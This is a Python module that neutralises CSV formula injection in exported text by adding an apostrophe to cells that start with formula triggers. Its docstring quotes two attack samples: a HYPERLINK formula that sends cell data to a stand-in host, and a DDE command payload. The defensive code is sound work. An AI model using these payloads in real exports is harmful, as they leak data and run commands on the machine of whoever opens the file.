"""Keeping exported text from running as a spreadsheet formula ("CSV injection").

Excel, LibreOffice Calc and Google Sheets treat a cell that begins with ``=``,
``+``, ``-`` or ``@`` as a formula, so a ticket subject such as
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` or a DDE payload such as
``=cmd|' /C calc'!A0`` would run on the admin's machine when the export is
opened. Tab and carriage return at the start of a cell are also in OWASP's list
("CSV Injection"): some spreadsheets drop them while parsing and then see
the formula behind them.

The rule, for every *text* cell: if its first character, after any leading
spaces, is one of the triggers below, the cell gets a leading apostrophe
``'``, which spreadsheets read as "this cell is text". Nothing else changes, so
the original is the cell minus its first character. Numbers the export writes
itself (ticket numbers, counts, durations, codes) are not text and never
prefixed: a spreadsheet reads ``-5`` as the number minus five, not a formula.

Text that only looks numeric ("-5", "+44 20 7946 0000") is still prefixed:
the export cannot tell a phone number from an attack that starts the same
way, and OWASP recommends prefixing text fields unconditionally.
"""

from __future__ import annotations

# The ASCII triggers OWASP lists, line feed (some importers strip leading line
# breaks too), and the full-width forms that some spreadsheets (Excel in East
# Asian locales) normalise to the ASCII ones before deciding "formula".
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n" "\uff1d\uff0b\uff0d\uff20")
# Spaces a spreadsheet may skip before it looks for a formula sign.
LEADING_SPACES = " \u00a0\u2007\u202f\u3000"
TEXT_MARKER = "'"


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (see the module docs)."""
    stripped = text.lstrip(LEADING_SPACES)
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def neutralise(text: str) -> str:
    """``text`` as it goes into a CSV cell: prefixed with ``'`` when formula-like."""
    return TEXT_MARKER + text if is_formula_like(text) else text
